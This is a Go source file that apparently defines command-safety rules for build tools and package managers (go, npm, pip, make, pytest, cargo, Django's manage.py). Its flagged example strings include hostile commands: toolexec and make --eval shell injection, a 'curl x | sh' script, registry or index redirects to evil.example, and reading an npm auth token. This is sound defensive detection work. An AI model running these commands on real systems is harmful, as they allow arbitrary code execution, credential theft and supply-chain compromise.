package programs

import "github.com/wardenhq/warden/danger"

// Build tools and package managers. Building, testing and running the
// project run the project's own code (RunsProject): known, never read-only.
// Options and subcommands that run a command given on the command line, or
// load a tool, are Exec or Load.

var _ = family("toolchains", func(add func(...*Spec)) {
	goBuild := "-C= -a -n -p= -race -msan -asan -cover -covermode= -coverpkg= -v -work -x -asmflags= -buildmode= -buildvcs? -compiler= -gccgoflags= -gcflags= -installsuffix= " +
		"-ldflags= -linkshared -mod= -modcacherw -modfile=r -overlay=r -pgo=r -pkgdir= -tags= -trimpath -toolexec=x -o=w -json -i -debug-actiongraph= -debug-trace= -debug-runtime-trace= -h:h -help:h"
	goTest := goBuild + " -exec=x -c -args -bench= -benchtime= -benchmem -count= -coverprofile=w -cpu= -failfast -fullpath -fuzz= -fuzztime= -fuzzminimizetime= -list= -parallel= -run= -short " +
		"-shuffle= -skip= -timeout= -vet= -blockprofile=w -blockprofilerate= -coverprofile=w -cpuprofile=w -memprofile=w -memprofilerate= -mutexprofile=w -mutexprofilefraction= -outputdir=w -trace=w " +
		"-test.run= -test.v -test.count= -test.timeout= -test.short -test.bench="
	goPkgs := &Spec{LongDash: true, Permute: true, Operands: "-*", Effect: RunsProject, Options: goBuild}
	// manage.py is the project's own script and django-admin runs the
	// project's settings. Django 3.2.25 (tried here): the first word is
	// the command (manage.py --verbos 2 check is "Unknown command"), its
	// parser argparse's, taking unique prefixes (check --verbos 2, flush
	// --no-inp --datab default) and attached short values (-v2). Even
	// --help and --version load the project's settings first.
	add(&Spec{Names: n("manage.py", "django-admin"), Grant: Grant{Depth: 1, Offers: []string{"./manage.py migrate => Bash(./manage.py migrate:*)"}},
		Effect: RunsProject, Loose: true, Abbrev: true, Permute: true, Operands: "-*",
		Options: "--settings= --pythonpath= --traceback --no-color --force-color -v|--verbosity= --skip-checks -h|--help --version --noinput|--no-input --database=",
		Flagged: []string{"./manage.py migrate", "python manage.py runserver", "django-admin flush --noinput", "./manage.py --help", "manage.py check --verbos 2"}})
	add(&Spec{
		Names: n("go"), Grant: Grant{Depth: 1, Deeper: "mod tool work", ExactSubs: "run", Offers: []string{"go build x => Bash(go build:*)", "go mod dev --x => Bash(go mod dev:*)", "go run x => Bash(go run x)"}}, LongDash: true, Options: "-C= -h:h -help:h --help:h -version:h",
		ReadOnly: []string{"go version", "go env GOPATH", "go list ./...", "go doc fmt.Println", "go list -m all", "go list -json ./...", "go help build", "go vet ./..."},
		Flagged: []string{"go list -toolexec='sh -c id' ./...", "go list -export -toolexec=./x.sh ./...", "go build -toolexec=./x.sh ./...", "go test -exec='sh -c id' ./...",
			"go run main.go", "go generate ./...", "go vet -vettool=./x ./...", "go env -w GOFLAGS=-toolexec=./x", "go tool x"},
		Subcommands: subs(
			"version", &Spec{LongDash: true, Options: "-m -v -json", Operands: "r*"},
			"env", &Spec{LongDash: true, Options: "-json -changed -u:c -w:c", Operands: "-*"},
			// -export and -compiled build the packages (cgo runs the C toolchain);
			// -u asks the module proxy for updates.
			"list", &Spec{LongDash: true, Permute: true, Operands: "-*", Options: goBuild + " -m -f= -e -deps -export:p -find -test -compiled:p -retracted:n -reuse= -u:n -versions:n",
				ReadOnly: []string{"go list -m all", "go list -f {{.Dir}} ./..."}, Flagged: []string{"go list -export ./...", "go list -m -u all"}},
			// -http downloads and runs a documentation server (pkgsite).
			"doc", &Spec{LongDash: true, Permute: true, Operands: "-*", Options: "-all -c -cmd -short -src -u -http=n -h:h -help:h",
				ReadOnly: []string{"go doc fmt.Println"}, Flagged: []string{"go doc -http=:6060 net/http"}},
			"help", &Spec{Operands: "-*"},
			"vet", &Spec{LongDash: true, Permute: true, Operands: "-*", Options: goBuild + " -vettool=x -json -c= -all -asmdecl -assign -atomic -bools -buildtag -cgocall -composites -copylocks -errorsas -httpresponse -loopclosure -lostcancel -nilfunc -printf -shift -stdmethods -structtag -tests -unmarshal -unreachable -unsafeptr -unusedresult"},
			"build", goPkgs, "install", goPkgs,
			"test", &Spec{LongDash: true, Permute: true, Operands: "-*", Effect: RunsProject, Options: goTest, Loose: true},
			"run", &Spec{LongDash: true, Operands: "x*", Effect: RunsProject, Options: goBuild + " -exec=x"},
			"generate", &Spec{LongDash: true, Permute: true, Operands: "-*", Effect: Exec, Options: goBuild + " -run= -skip="},
			"tool", &Spec{LongDash: true, Operands: "x*", Options: "-n -modfile=r"},
			// mod edit -json and -print print go.mod; the other
			// subcommands may download modules.
			"mod", &Spec{Options: "-h:h", OtherSubcommand: Network, Subcommands: subs(
				"edit", &Spec{Effect: Write, ReadWith: "-json -print", LongDash: true, Permute: true, Operands: "r?",
					Options: "-fmt -module= -go= -toolchain= -require= -droprequire= -exclude= -dropexclude= -replace= -dropreplace= -retract= -dropretract= -godebug= -dropgodebug= -tool= -droptool= -ignore= -dropignore= -json -print -h:h"}),
				ReadOnly: []string{"go mod edit -json", "go mod edit -print"}, Flagged: []string{"go mod edit -require=example.com/x@v1", "go mod tidy", "go mod download"}},
			"get", &Spec{Effect: Network, LongDash: true, Permute: true, Operands: "-*", Loose: true, Options: "-h:h"},
			// -n prints the gofmt command it would run.
			"fmt", &Spec{Effect: Write, ReadWith: "-n", LongDash: true, Permute: true, Operands: "-*", Options: "-n -x -mod=",
				ReadOnly: []string{"go fmt -n ./..."}, Flagged: []string{"go fmt ./..."}},
			"clean", &Spec{Effect: Delete, LongDash: true, Permute: true, Operands: "-*", Loose: true, Options: "-h:h"},
			"work", &Spec{Effect: Write, Operands: "-*", Loose: true, Options: "-h:h"},
		),
	})

	npmRun := &Spec{Effect: RunsProject, Permute: true, Operands: "-*", Loose: true, Options: "--script-shell=x -h:h --help:h"}
	npmRunList := &Spec{Effect: RunsProject, EffectWithOperands: true, Permute: true, Operands: "-*", Loose: true, Options: npmRun.Options + " --json --parseable -w= --workspace= --workspaces --if-present",
		ReadOnly: []string{"npm run", "npm run --json"}, Flagged: []string{"npm run build", "npm run --script-shell=./x.sh build", "npm run-script test"}}
	npmNet := &Spec{Effect: RunsProject, Permute: true, Operands: "-*", Loose: true, Options: "--registry=n -h:h --help:h"}
	// npm exec runs a package's binary, or with -c a shell command.
	npmExec := &Spec{Effect: Exec, Command: true, Lang: "sh", Options: "--package= -p= -c=k --call=k --yes -y --no --workspace= -w= --workspaces --include-workspace-root -h:h --help:h"}
	npmRead := &Spec{Permute: true, Operands: "-*", Options: "--json --long -l --parseable -p --depth= --all -a --global -g --omit= --include= --prod --dev --workspace= -w= --workspaces --link --unicode --registry=n -h:h --help:h"}
	// Subcommands that ask the registry: they read, but over the network
	// (so not read-only), and help opens the manual viewer the
	// configuration names.
	npmAsks := &Spec{Effect: Network, Permute: true, Operands: "-*", Options: npmRead.Options,
		Flagged: []string{"npm view react version", "npm outdated"}}
	// npm takes a command's unique prefix (npm 11.19: npm pub, npm publis
	// are publish; the prefixes are those of lib/utils/cmd-list.js).
	npmPublish := &Spec{Effect: Network, Permute: true, Operands: "-*", Loose: true, Options: "--dry-run --tag= --access= --otp= -w|--workspace= --workspaces --registry=n --provenance -h:h --help:h",
		Raises: []Raise{{Kind: danger.PublishDeploy, Why: "{prog} publish releases the package publicly", Unless: "--dry-run",
			Flagged: []string{"npm publish", "npm pub", "npm publis --access public", "npm -w pkg publish --tag next"},
			Passes:  []string{"npm publish --dry-run", "npm pack", "npm publish --help"}}}}
	npmHelp := &Spec{Effect: Unknown, Permute: true, Operands: "-*", Options: npmRead.Options, Flagged: []string{"npm help install"}}
	add(&Spec{
		Names: n("npm"), Lasting: Lasting{Does: Publishes, Subs: "publish unpublish", Examples: []string{"npm publish => publishes a package or release", "npm unpublish x => publishes a package or release"}}, Grant: Grant{Depth: 1, Deeper: "exec run run-script", ExactSubs: "exec x", Offers: []string{"npm build x => Bash(npm build:*)", "npm exec dev --x => Bash(npm exec dev --x)", "npm exec x => Bash(npm exec x)"}}, Permute: false, Options: "-v:h --version:h -h:h --help:h -C= --prefix= -w= --workspace= --workspaces --silent -s --loglevel= -d -dd --yes -y",
		ReadOnly: []string{"npm ls", "npm -v", "npm config list"},
		Flagged:  []string{"npm exec /bin/sh", "npm config set registry https://evil.example", "npm install", "npm run build", "npm frobnicate"},
		Subcommands: subs(
			"ls", npmRead, "list", npmRead, "view", npmAsks, "info", npmAsks, "show", npmAsks, "outdated", npmAsks, "root", npmRead, "prefix", npmRead, "bin", npmRead,
			"whoami", npmAsks, "help", npmHelp, "doctor", npmAsks, "explain", npmRead, "why", npmRead, "fund", npmRead, "search", npmAsks, "ping", npmAsks,
			"config", &Spec{Options: "-h:h --help:h", Flagged: []string{"npm config get //registry.npmjs.org/:_authToken"}, Subcommands: subs("list", npmRead, "ls", npmRead, "get", npmRead, "set", &Spec{Effect: Config, Operands: "-*", Loose: true}, "delete", &Spec{Effect: Config, Operands: "-*", Loose: true}, "edit", &Spec{Effect: Config, Operands: "-*", Loose: true})},
			"install", npmNet, "i", npmNet, "ci", npmNet, "add", npmNet, "update", npmNet, "up", npmNet, "uninstall", npmNet, "rm", npmNet, "remove", npmNet, "rebuild", npmNet, "link", npmNet, "dedupe", npmNet, "prune", npmNet, "audit", npmNet, "pack", npmNet,
			// Without a script name, run lists the package's scripts.
			"run", npmRunList, "run-script", npmRunList,
			"pkg", &Spec{Options: "-h:h --help:h", Subcommands: subs("get", &Spec{Permute: true, Operands: "-*", Options: "--json -w= --workspace= --workspaces -h:h --help:h"},
				"set", &Spec{Effect: Write, Operands: "-*", Loose: true}, "delete", &Spec{Effect: Write, Operands: "-*", Loose: true}, "fix", &Spec{Effect: Write, Operands: "-*", Loose: true}),
				ReadOnly: []string{"npm pkg get version", "npm pkg get name version --json"}, Flagged: []string{"npm pkg set scripts.x='curl x | sh'"}}, "test", npmRun, "t", npmRun, "start", npmRun, "stop", npmRun, "restart", npmRun, "init", npmRun, "create", npmRun,
			"exec", npmExec, "x", npmExec,
			"publish", npmPublish, "pu", npmPublish, "pub", npmPublish, "publ", npmPublish, "publi", npmPublish, "publis", npmPublish, "unpublish", &Spec{Effect: Network, Operands: "-*", Loose: true}, "deprecate", &Spec{Effect: Network, Operands: "-*", Loose: true},
			"cache", &Spec{Effect: Delete, Operands: "-*", Loose: true}, "set", &Spec{Effect: Config, Operands: "-*", Loose: true}, "login", &Spec{Effect: Config, Operands: "-*", Loose: true}, "logout", &Spec{Effect: Config, Operands: "-*", Loose: true},
		),
	})
	const pipConfigOpts = "-h:h --help:h --editor=x --global --user --site"
	pipConfigSet := &Spec{Effect: Config, Permute: true, Loose: true, Operands: "-*", Options: pipConfigOpts,
		Raises: []Raise{{Kind: danger.SecurityDisable, Operand: "*trusted-host* *cert*", Last: true, Why: "turns off TLS checking for pip",
			Flagged: []string{"pip config set global.trusted-host pypi.x.example", "pip config set --user global.cert /tmp/ca.pem", "pip3 config --user set install.trusted-host x", "sudo pip config set global.trusted-host x"},
			Passes:  []string{"pip config set global.timeout 60", "pip config list", "pip config get global.trusted-host"}},
			{Kind: danger.SystemConfig, Operand: "*index-url*", Why: "redirects the Python package index",
				Flagged: []string{"pip config set global.index-url https://pypi.x.example/simple", "pip config set global.extra-index-url https://x.example", "/usr/bin/pip config set global.index-url x"},
				Passes:  []string{"pip config get global.index-url", "pip install --index-url https://x.example/simple x"}},
			{Kind: danger.SystemConfig, Medium: true, Why: "changes pip's user-global configuration",
				Flagged: []string{"pip config set global.timeout 60", "pip config --user set global.timeout 60"}, Passes: []string{"pip config list", "pip config get global.timeout", "pip config set --help"}}}}
	pipConfigEdit := &Spec{Effect: Config, Permute: true, Loose: true, Operands: "-*", Options: pipConfigOpts,
		Raises: []Raise{{Kind: danger.SystemConfig, Medium: true, Why: "changes pip's user-global configuration",
			Flagged: []string{"pip config edit", "pip config --user edit", "pip3 config edit --global"}, Passes: []string{"pip config list", "pip config edit --help"}}}}
	pipConfig := &Spec{Effect: Config, Permute: true, Loose: true, Operands: "-*", Options: pipConfigOpts, OtherSubcommand: Config,
		Subcommands: subs("set", pipConfigSet, "edit", pipConfigEdit)}
	add(
		&Spec{Names: n("make", "gmake"), Grant: Grant{ExactWith: "-f* --file* --makefile* --eval* -E* *=* --justfile", Depth: 1, Offers: []string{"make build x => Bash(make build:*)", "make -f x => Bash(make -f x)"}}, Effect: RunsProject, Lang: "make", Permute: true, Operands: "-*",
			// --eval and the makefile run any command.
			Options: "-B --always-make -C= --directory= -d --debug? -e --environment-overrides -E=k --eval=k -f= --file= --makefile= -i --ignore-errors -I= --include-dir= -j? --jobs? " +
				"-k --keep-going -l? --load-average? --max-load? -L --check-symlink-times -n --just-print --dry-run --recon -o= --old-file= --assume-old= -O? --output-sync? -p --print-data-base " +
				"-q --question -r --no-builtin-rules -R --no-builtin-variables -s --silent --quiet --no-silent -S --no-keep-going --stop -t --touch --trace -v|--version:h -w --print-directory " +
				"--no-print-directory -W= --what-if= --new-file= --assume-new= --warn-undefined-variables --shuffle? -h|--help:h",
			Flagged: []string{"make", "make test", "make --eval='$(shell sh -c id)' .", "make -s --eval='$(file >/tmp/x,DATA)' ."}},
		&Spec{Names: n("pytest", "py.test"), Effect: RunsProject, Permute: true, Operands: "-*", Loose: true,
			// -p loads a plugin module; --rootdir and ini files may
			// name more.
			Options: "-p=l -c=r --confcutdir= --override-ini=u -o=u --pyargs -h --help:h --version:h -V:h",
			Flagged: []string{"pytest", "pytest -p evilplugin", "pytest -x tests/"}},
		&Spec{Names: n("cargo"), Lasting: Lasting{Does: Publishes, Subs: "publish", Examples: []string{"cargo publish => publishes a package or release"}}, Grant: Grant{Depth: 1, Deeper: "run", ExactSubs: "install", Offers: []string{"cargo build x => Bash(cargo build:*)", "cargo run dev --x => Bash(cargo run dev:*)", "cargo install x => Bash(cargo install x)"}}, Options: "-V:h --version:h -h:h --help:h --list -v -vv -q --quiet --color= -C= --locked --offline --frozen --config=u -Z=u",
			Subcommands: subs("build", &Spec{Effect: RunsProject, Operands: "-*", Loose: true}, "b", &Spec{Effect: RunsProject, Operands: "-*", Loose: true}, "check", &Spec{Effect: RunsProject, Operands: "-*", Loose: true},
				"test", &Spec{Effect: RunsProject, Operands: "-*", Loose: true}, "t", &Spec{Effect: RunsProject, Operands: "-*", Loose: true}, "run", &Spec{Effect: RunsProject, Operands: "-*", Loose: true},
				"r", &Spec{Effect: RunsProject, Operands: "-*", Loose: true}, "bench", &Spec{Effect: RunsProject, Operands: "-*", Loose: true}, "clippy", &Spec{Effect: RunsProject, Operands: "-*", Loose: true},
				"doc", &Spec{Effect: RunsProject, Operands: "-*", Loose: true}, "fmt", &Spec{Effect: Write, ReadWith: "--check", Permute: true, Operands: "-*", Loose: true,
					Options:  "--check --all -p= --package= --manifest-path=r --message-format= -v --verbose -q --quiet -h:h --help:h",
					ReadOnly: []string{"cargo fmt --check", "cargo fmt --all --check"}, Flagged: []string{"cargo fmt", "cargo fmt --all"}},
				"clean", &Spec{Effect: Delete, Operands: "-*", Loose: true},
				"fetch", &Spec{Effect: Network, Operands: "-*", Loose: true}, "update", &Spec{Effect: Network, Operands: "-*", Loose: true}, "add", &Spec{Effect: Network, Operands: "-*", Loose: true},
				"install", &Spec{Effect: RunsProject, Operands: "-*", Loose: true}, "publish", &Spec{Effect: Network, Operands: "-*", Loose: true, Options: "-n|--dry-run"},
				"tree", &Spec{Permute: true, Operands: "-*", Loose: false, Options: "-p= --package= -i= --invert= -e= --edges= --depth= --prefix= --no-dedupe -d --duplicates --charset= -f= --format= --all-features --no-default-features -F= --features= --target= --workspace --exclude= -h:h --help:h"},
				"metadata", &Spec{Permute: true, Operands: "", Options: "--format-version= --no-deps --all-features --features= --no-default-features --filter-platform= --manifest-path=r -h:h --help:h"}),
			Flagged: []string{"cargo build", "cargo --config 'build.rustc-wrapper=\"sh\"' build"}},
		// pip config set NAME VALUE and pip config edit change pip's
		// configuration file; what the setting is decides how
		// dangerous: trusted-host or cert turn TLS checking off (and
		// nothing further is judged), index-url moves the package index.
		&Spec{Names: n("pip", "pip3"), Grant: Grant{Depth: 1, ExactSubs: "install", Offers: []string{"pip build x => Bash(pip build:*)", "pip install x => Bash(pip install x)"}}, Options: "-V:h --version:h -h:h --help:h -q --quiet -v --verbose --isolated --python=x --require-virtualenv --no-input --disable-pip-version-check --no-color",
			Subcommands: subs("list", &Spec{Permute: true, Operands: "", Options: "-o:n --outdated:n -u:n --uptodate:n -e --editable -l --local --user --path= --pre --format= --not-required --exclude-editable --include-editable --exclude= -h:h --help:h"},
				"show", &Spec{Permute: true, Operands: "-*", Options: "-f --files -h:h --help:h"}, "freeze", &Spec{Permute: true, Operands: "", Options: "-l --local --user --all --exclude-editable --exclude= --path= -h:h --help:h"},
				"check", &Spec{Operands: ""}, "help", &Spec{Operands: "-*"},
				"install", &Spec{Effect: RunsProject, Operands: "-*", Loose: true, Abbrev: true, Permute: true, Options: "-i=n --index-url=n --extra-index-url=n --break-system-packages"}, "download", &Spec{Effect: Network, Operands: "-*", Loose: true},
				"uninstall", &Spec{Effect: Delete, Operands: "-*", Loose: true}, "config", pipConfig, "cache", &Spec{Effect: Delete, Operands: "-*", Loose: true}),
			ReadOnly: []string{"pip list", "pip show requests", "pip freeze"}, Flagged: []string{"pip install requests", "pip install --index-url https://evil.example/simple pkg"}},
	)
})
